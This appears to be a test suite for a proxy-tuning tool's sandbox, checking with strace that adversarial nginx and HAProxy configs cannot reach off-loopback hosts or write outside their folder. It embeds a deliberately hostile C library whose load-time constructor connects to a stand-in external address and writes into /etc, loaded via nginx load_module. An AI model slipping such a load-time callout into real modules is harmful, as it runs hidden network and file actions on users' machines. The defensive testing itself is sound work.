// The sandbox's adversarial suite (issue 16). Every config of cases.ts is benchmarked briefly
// (or must be refused, naming its line). The proxy binary runs under `strace -f` (a wrapper the
// test makes: every connect/datagram and every file opened for writing, created, renamed or
// removed is recorded, from the config test `nginx -t`/`haproxy -c` through the run), and the
// trace must show no connect or datagram to an address off loopback and no write outside the
// run's folder that succeeded. Each case is then classed:
// - refused: the engine refused it before any process ran, naming the line;
// - rewritten: the trace shows no attempt off loopback or outside the folder at all;
// - contained: the proxy tried (the rewrite let it), and the kernel refused every attempt (the
//   run's network namespace has only loopback, the file system is read-only but the folder).
// The table goes to $PROXY_TUNER_SANDBOX_TABLE when set (docs/sandbox.md is made from it).
// The version matrix's binaries (nginx 1.26/1.30, HAProxy 3.0/3.2) run under the same tracer.
import { after, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { findBinary, runBenchmark, SandboxRefusal } from '../../bench/src/index';
import { Containment, unavailableReason } from '../../server/src/runner/contain';
import { findMatrixBinary, loadMatrix, type MatrixBinary } from '../../server/src/runner/matrix';
import { CASES, type AdversarialCase } from './cases';

const haveStrace = spawnSync('strace', ['-V'], { stdio: 'ignore' }).status === 0;
// Every case starts a contained backend: from the bundle (built by `npm test` first) it starts
// without compiling the sources again in each run's fresh temporary folder.
const bundled = join(__dirname, '..', '..', 'dist', 'loadWorker.js');
if (existsSync(bundled)) process.env.PROXY_TUNER_WORKER_ENTRY = bundled;
const root = mkdtempSync(join(tmpdir(), 'pt-adversarial-'));
// the containment shows nothing of the host writable: the traces go to a folder bound in for tests
const traceDir = join(root, 'traces');
mkdirSync(traceDir, { mode: 0o777 });
chmodSync(traceDir, 0o777);
chmodSync(root, 0o755);
process.env.PROXY_TUNER_TEST_TRACE_DIR = traceDir;
/** Traces of the processes that ran with `dir` as their working folder. */
function tracesOf(dir: string): string {
  let out = '';
  const tag = `.pt-trace.${basename(dir)}.`;
  for (const n of readdirSync(traceDir)) if (n.startsWith(tag)) out += readFileSync(join(traceDir, n), 'utf8');
  return out;
}
const SYSCALLS =
  'connect,sendto,sendmsg,sendmmsg,open,openat,creat,mkdir,mkdirat,rename,renameat,renameat2,unlink,unlinkat,rmdir,truncate,link,linkat,symlink,symlinkat';

function tracedBinary(kind: 'nginx' | 'haproxy', real = findBinary(kind), name: string = kind): string | undefined {
  if (!real || !haveStrace) return undefined;
  const file = join(root, `traced-${name}`);
  // traces only in a run's folder (the engine's own `-v`/`-V` probes run elsewhere)
  writeFileSync(
    file,
    `#!/bin/sh\ncase "$PWD" in\n  */proxy-tuner-bench-*) exec strace -f -qq -s 300 -o "${traceDir}/.pt-trace.$(basename "$PWD").$$" -e trace=${SYSCALLS} ${real} "$@" ;;\nesac\nexec ${real} "$@"\n`,
  );
  chmodSync(file, 0o755);
  return file;
}

const traced = { nginx: tracedBinary('nginx'), haproxy: tracedBinary('haproxy') };

// The version matrix's binaries traced the same way: a registry of our own lists the wrappers
// with each binary's own modules and configuration folders, so the engine plans for that binary.
const tracedMatrix = new Map<string, string>();
{
  const entries: MatrixBinary[] = [];
  for (const b of loadMatrix()) {
    const w = b.root ? tracedBinary(b.product, b.path, `${b.product}-${b.version}`) : undefined;
    if (w) tracedMatrix.set(b.path, w);
    entries.push({ ...b, path: w ?? b.path });
  }
  if (tracedMatrix.size) {
    mkdirSync(join(root, 'matrix'));
    writeFileSync(join(root, 'matrix', 'binaries.json'), JSON.stringify({ binaries: entries }));
  }
}
const realMatrix = loadMatrix();
if (tracedMatrix.size) process.env.PROXY_TUNER_MATRIX_DIR = join(root, 'matrix');

interface Attempt {
  call: string;
  target: string;
  result: string;
  ok: boolean;
}

const isLoopback = (a: string) => /^127\./.test(a) || a === '::1' || /^::ffff:127\./.test(a) || a === '0.0.0.0' || a === '::';

/** Folders that are fresh, empty tmpfs mounts inside the containment (server/src/runner/contain.ts). */
const PRIVATE_TMPFS = /^\/(tmp|run|home|root|var\/(run|lib|log|tmp|cache))(\/|$)/;

/** Writes of a trace into the containment's private tmpfs folders (they succeed there and stay there). */
function privateWrites(trace: string): string[] {
  const out: string[] = [];
  for (const line of trace.split('\n')) {
    const m = /^\d+\s+(open|openat|mkdir|mkdirat|creat)\((.*)\)\s+=\s+(-?\d+)(.*)$/.exec(line.trim());
    if (!m) continue;
    const p = /"([^"]*)"/.exec(m[2])?.[1];
    if (!p || !PRIVATE_TMPFS.test(p)) continue;
    if (m[1].startsWith('open') && !/O_WRONLY|O_RDWR|O_CREAT/.test(m[2])) continue;
    out.push(`${m[1]} ${p} ${Number(m[3]) >= 0 ? 'done in the private tmpfs' : m[4].trim().split(' ')[0]}`);
  }
  return out;
}

/** The connects/datagrams off loopback and the writes outside `dir` of a trace. */
export function offLimits(trace: string, dir: string): Attempt[] {
  const out: Attempt[] = [];
  for (const line of trace.split('\n')) {
    const m = /^\d+\s+(\w+)\((.*)\)\s+=\s+(-?\d+|\?)(.*)$/.exec(line.trim());
    if (!m) continue;
    const [, call, args, ret, rest] = m;
    const ok = (ret !== '?' && Number(ret) >= 0) || /EINPROGRESS/.test(rest);
    const result = ret === '-1' ? rest.trim().split(' ')[0] : `= ${ret}`;
    if (call === 'connect' || call === 'sendto' || call === 'sendmsg' || call === 'sendmmsg') {
      const v4 = /inet_addr\("([^"]+)"\)/.exec(args);
      const v6 = /inet_pton\(AF_INET6, "([^"]+)"/.exec(args);
      const un = /sun_path=(@?)"([^"]+)"/.exec(args);
      const addr = v4?.[1] ?? v6?.[1];
      if (addr && !isLoopback(addr)) out.push({ call, target: addr, result, ok });
      // glibc asks the name-service cache daemon first when nginx looks up its `user` (a local,
      // read-only lookup, not a network connection): not counted, see docs/sandbox.md
      else if (un && /^\/(var\/)?run\/nscd\/socket$/.test(un[2])) continue;
      else if (un && !un[2].startsWith(dir)) out.push({ call, target: `unix:${un[1]}${un[2]}`, result, ok });
      continue;
    }
    const p = /"([^"]*)"/.exec(args)?.[1];
    if (!p) continue;
    const writes = call === 'open' || call === 'openat' ? /O_WRONLY|O_RDWR|O_CREAT|O_TRUNC|O_APPEND/.test(args) : true;
    if (!writes || !p.startsWith('/')) continue; // relative: the run's folder is the working directory
    if (p.startsWith(dir) || p.startsWith('/dev/') || p.startsWith('/proc/')) continue;
    // the containment's own empty tmpfs folders: writes there never reach the host
    if (PRIVATE_TMPFS.test(p)) continue;
    out.push({ call, target: p, result, ok });
  }
  return out;
}

type Row = { name: string; outcome: 'refused' | 'rewritten' | 'contained'; evidence: string };
const rows: Row[] = [];

after(() => {
  // the cases' own order (they finish three at a time), then the containment-only rows
  const order = (r: Row) => {
    const i = CASES.findIndex((c) => c.name === r.name);
    return i < 0 ? CASES.length : i;
  };
  rows.sort((a, b) => order(a) - order(b));
  const table = [
    '| # | case | outcome | evidence |',
    '|---|------|---------|----------|',
    ...rows.map((r, i) => `| ${i + 1} | ${r.name.replace(/\|/g, '\\|')} | ${r.outcome} | ${r.evidence.replace(/\|/g, '\\|')} |`),
  ].join('\n');
  for (const r of rows) console.log(`# ${r.outcome.padEnd(9)} ${r.name}: ${r.evidence}`);
  if (process.env.PROXY_TUNER_SANDBOX_TABLE) writeFileSync(process.env.PROXY_TUNER_SANDBOX_TABLE, table + '\n');
  rmSync(root, { recursive: true, force: true });
});

function binaryFor(c: AdversarialCase): string | undefined | null {
  if (c.matrix) {
    const b = findMatrixBinary(c.kind, c.matrix, realMatrix);
    return b ? (tracedMatrix.get(b.path) ?? b.path) : null;
  }
  return traced[c.kind] ?? findBinary(c.kind) ?? null;
}

describe('adversarial configs: refused, rewritten or contained; nothing leaves loopback or the run folder', { concurrency: 3 }, () => {
  it('has at least 60 cases', () => assert.ok(CASES.length >= 60, `${CASES.length} cases`));
  for (const c of CASES) {
    const bin = binaryFor(c);
    it(c.name, { skip: bin === null && `${c.kind}${c.matrix ? ' ' + c.matrix : ''} not installed` }, async () => {
      const caseDir = mkdtempSync(join(root, 'case-'));
      const file = join(caseDir, c.kind === 'nginx' ? 'nginx.conf' : 'haproxy.cfg');
      writeFileSync(file, c.text);
      const before = readFileSync(file);
      let traces = '';
      let runDir = '';
      let mode = '';
      try {
        const result = await runBenchmark(
          { configPath: file, kind: c.kind, binary: bin ?? undefined, durationMs: 200, warmupMs: 0, connections: 2, timeoutMs: 1000 },
          {
            onProxyReady: (i) => {
              runDir = i.dir;
              mode = i.mode;
            },
            onProxyStopped: (i) => {
              traces += tracesOf(i.dir);
            },
          },
        ).then(
          (r) => ({ ok: true as const, r }),
          (e: Error) => ({ ok: false as const, e }),
        );
        assert.ok(readFileSync(file).equals(before), 'the user file is unchanged');
        if (c.refuse) {
          assert.ok(!result.ok, 'refused');
          const e = (result as { e: Error }).e;
          assert.ok(e instanceof SandboxRefusal, `a refusal, not: ${e.message}`);
          const line = c.text.split('\n').findIndex((l) => l.includes(c.refuse!)) + 1;
          assert.ok(line > 0, 'the case names its line');
          assert.ok(e.message.includes(`:${line}:`), `the refusal names line ${line}: ${e.message}`);
          assert.equal(runDir, '', 'no proxy was started');
          rows.push({ name: c.name, outcome: 'refused', evidence: `line ${line}: ${e.message.replace(/^.*?:\d+: /, '').slice(0, 220)}` });
          return;
        }
        assert.ok(result.ok, `the config runs: ${result.ok ? '' : result.e.message}`);
        const r = result.r;
        assert.equal(r.sandbox?.mode, 'namespace', `contained (${r.sandbox?.reason ?? ''})`);
        assert.equal(mode, 'namespace');
        assert.ok(!existsSync(runDir), 'the run folder is gone');
        const lowered = r.sandbox.adjustments.map((a) => `${a.setting} ${a.from}→${a.to}`).join(', ');
        if (!traces) {
          rows.push({
            name: c.name,
            outcome: 'contained',
            evidence: `ran in the namespace (${r.requests} requests, no tracer for this binary)${lowered ? `; lowered ${lowered}` : ''}`,
          });
          return;
        }
        assert.ok(traces.length > 0, 'the tracer recorded the config test and the run');
        const bad = offLimits(traces, runDir);
        const escaped = bad.filter((a) => a.ok);
        assert.deepEqual(escaped, [], 'nothing off loopback or outside the run folder succeeded');
        if (c.rewritten) assert.deepEqual(bad, [], 'the rewrite alone handles it (no attempt at all)');
        const summary = [...new Set(bad.map((a) => `${a.call} ${a.target} ${a.result}`))].slice(0, 3).join('; ');
        rows.push({
          name: c.name,
          outcome: bad.length ? 'contained' : 'rewritten',
          evidence: bad.length
            ? `${bad.length} attempt(s) refused by the kernel: ${summary}`
            : `strace: no connect/datagram off loopback, no write outside the run folder (${r.requests} requests)${lowered ? `; lowered ${lowered}` : ''}`,
        });
      } finally {
        rmSync(caseDir, { recursive: true, force: true });
      }
    });
  }
});

// ---- Containment alone: the rewrite bypassed ---------------------------------------------------
// The same attacks run by the real binaries inside the run's containment (Containment.wrap, the
// wrapper every process of a run goes through) on configs the sandbox did NOT rewrite: whatever
// the rewrite might miss, the kernel refuses it.

const EVIL_C = `#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void pt_evil(void) {
  struct sockaddr_in a = {0};
  a.sin_family = AF_INET;
  a.sin_port = htons(80);
  inet_pton(AF_INET, "203.0.113.5", &a.sin_addr);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  connect(s, (struct sockaddr *)&a, sizeof a);
  close(s);
  int u = socket(AF_INET, SOCK_DGRAM, 0);
  sendto(u, "x", 1, 0, (struct sockaddr *)&a, sizeof a);
  close(u);
  int f = open("/etc/pt-adv-evil", O_WRONLY | O_CREAT, 0644);
  if (f >= 0) close(f);
}
`;

async function runContained(
  bin: string,
  args: (dir: string) => string[],
  files: (dir: string) => Record<string, string>,
  runMs: number,
): Promise<{ dir: string; trace: string }> {
  const dir = mkdtempSync(join(tmpdir(), 'proxy-tuner-bench-'));
  const c = await Containment.open(dir);
  try {
    assert.equal(c.mode, 'namespace', c.reason);
    for (const [name, text] of Object.entries(files(dir))) writeFileSync(join(dir, name), text);
    const w = c.wrap('strace', [
      '-f',
      '-qq',
      '-s',
      '300',
      '-o',
      join(traceDir, `.pt-trace.${basename(dir)}.0`),
      '-e',
      `trace=${SYSCALLS}`,
      bin,
      ...args(dir),
    ]);
    const child = spawn(w.cmd, w.args, { cwd: dir, detached: true, stdio: 'ignore' });
    const exited = new Promise<void>((r) => child.once('exit', () => r()));
    const timer = setTimeout(() => {
      try {
        process.kill(-child.pid!, 'SIGKILL'); // the process group we started: strace and the binary
      } catch {
        // gone
      }
    }, runMs);
    await exited;
    clearTimeout(timer);
    await new Promise((r) => setTimeout(r, 100));
    return { dir, trace: tracesOf(dir) };
  } finally {
    await c.dispose();
  }
}

/** Connects and datagrams to port 53 on the run's own loopback (name queries that reach nothing). */
function loopbackQueries(trace: string): string[] {
  const out: string[] = [];
  for (const m of trace.matchAll(
    /^\d+\s+(connect|sendto|sendmmsg)\(.*sin_port=htons\(53\).*inet_addr\("(127\.[^"]+)"\).*\)\s+=\s+(-?\d+)/gm,
  ))
    out.push(`${m[1]} ${m[2]}:53 (the run's own loopback: nothing listens)`);
  return [...new Set(out)];
}

function containedRow(name: string, dir: string, trace: string, expect: RegExp[]): void {
  assert.ok(trace.length > 0, 'traced');
  const bad = offLimits(trace, dir);
  assert.deepEqual(
    bad.filter((a) => a.ok),
    [],
    'nothing off loopback or outside the folder succeeded',
  );
  // the telling ones first (a refused connect or write, not a folder that already existed), then
  // what stayed inside: writes into the containment's private tmpfs, name queries to its loopback
  const text = [
    ...bad.map((a) => `${a.call} ${a.target} ${a.result}`).sort((x, y) => Number(/EEXIST/.test(x)) - Number(/EEXIST/.test(y))),
    ...privateWrites(trace),
    ...loopbackQueries(trace),
  ];
  for (const e of expect)
    assert.ok(
      text.some((t) => e.test(t)),
      `expected an attempt ${e} refused by the kernel: ${text.join('; ')}`,
    );
  rows.push({
    name,
    outcome: 'contained',
    evidence: `${bad.length} attempt(s) off loopback or onto the host, all refused by the kernel; ${[...new Set(text)].slice(0, 4).join('; ')}`,
  });
}

describe(
  'containment alone: the rewrite bypassed, the kernel refuses',
  { skip: (!haveStrace && 'strace not installed') || (unavailableReason() ?? false) },
  () => {
    const nginxBin = findBinary('nginx');
    const haproxyBin = findBinary('haproxy');
    const haveCc = spawnSync('cc', ['--version'], { stdio: 'ignore' }).status === 0;

    it(
      'nginx -t with load_module of a library whose constructor connects, sends and writes',
      { skip: (!nginxBin && 'nginx not installed') || (!haveCc && 'no C compiler') },
      async () => {
        const so = join(root, 'pt-adv-evil.so');
        writeFileSync(join(root, 'evil.c'), EVIL_C);
        const cc = spawnSync('cc', ['-shared', '-fPIC', '-o', so, join(root, 'evil.c')], { encoding: 'utf8' });
        assert.equal(cc.status, 0, cc.stderr);
        const { dir, trace } = await runContained(
          nginxBin!,
          (d) => ['-t', '-p', d + '/', '-c', join(d, 'nginx.conf'), '-e', join(d, 'error.log')],
          (d) => {
            // the library is a file of the run (the containment shows nothing else of /tmp)
            copyFileSync(so, join(d, 'pt-adv-evil.so'));
            return { 'nginx.conf': `load_module ${join(d, 'pt-adv-evil.so')};\nevents {}\n` };
          },
          10_000,
        );
        containedRow('contained (no rewrite): `load_module evil.so` constructor during `nginx -t`', dir, trace, [
          /^connect 203\.0\.113\.5 ENETUNREACH/,
          /^sendto 203\.0\.113\.5 ENETUNREACH/,
          /^openat \/etc\/pt-adv-evil (EROFS|EACCES)/,
        ]);
        assert.ok(!existsSync('/etc/pt-adv-evil'));
        rmSync(dir, { recursive: true, force: true });
      },
    );

    for (const [label, http, expect] of [
      // written into the containment's own empty /var/log (tmpfs), never the host's
      ['the compiled-in access log (/var/log/nginx/access.log)', '', /^open(at)? \/var\/log\/nginx\/access\.log done in the private tmpfs/],
      // no resolv.conf in the containment's /etc: glibc asks 127.0.0.1:53, the run's own loopback
      [
        '`set_real_ip_from pt-adv.example.com` (a DNS query at start)',
        '  set_real_ip_from pt-adv.example.com;\n',
        /^(connect|sendto) 127\.0\.0\.1/,
      ],
    ] as const) {
      it(`nginx -t without the rewrite: ${label}`, { skip: !nginxBin && 'nginx not installed' }, async () => {
        const { dir, trace } = await runContained(
          nginxBin!,
          (d) => ['-t', '-p', d + '/', '-c', join(d, 'nginx.conf'), '-e', join(d, 'error.log')],
          (d) => ({ 'nginx.conf': `pid ${d}/nginx.pid;\nevents {}\nhttp {\n${http}  server { listen 127.0.0.1:18080; }\n}\n` }),
          15_000,
        );
        containedRow(`contained (no rewrite): nginx -t with ${label}`, dir, trace, [expect]);
        rmSync(dir, { recursive: true, force: true });
      });
    }

    it(
      'haproxy without the rewrite: health checks and traffic to a public server',
      { skip: !haproxyBin && 'haproxy not installed' },
      async () => {
        const { dir, trace } = await runContained(
          haproxyBin!,
          (d) => ['-db', '-f', join(d, 'haproxy.cfg')],
          () => ({
            'haproxy.cfg':
              'global\n    maxconn 100\ndefaults\n    mode http\n    timeout connect 1s\n    timeout client 5s\n    timeout server 5s\nfrontend web\n    bind 127.0.0.1:18081\n    default_backend app\nbackend app\n    option tcp-check\n    tcp-check connect addr 203.0.113.8 port 80\n    server s1 203.0.113.5:80 check inter 100\n',
          }),
          1500,
        );
        containedRow('contained (no rewrite): haproxy health checks to 203.0.113.5 / `tcp-check connect addr 203.0.113.8`', dir, trace, [
          /^connect 203\.0\.113\.8 ENETUNREACH/,
        ]);
        rmSync(dir, { recursive: true, force: true });
      },
    );
  },
);
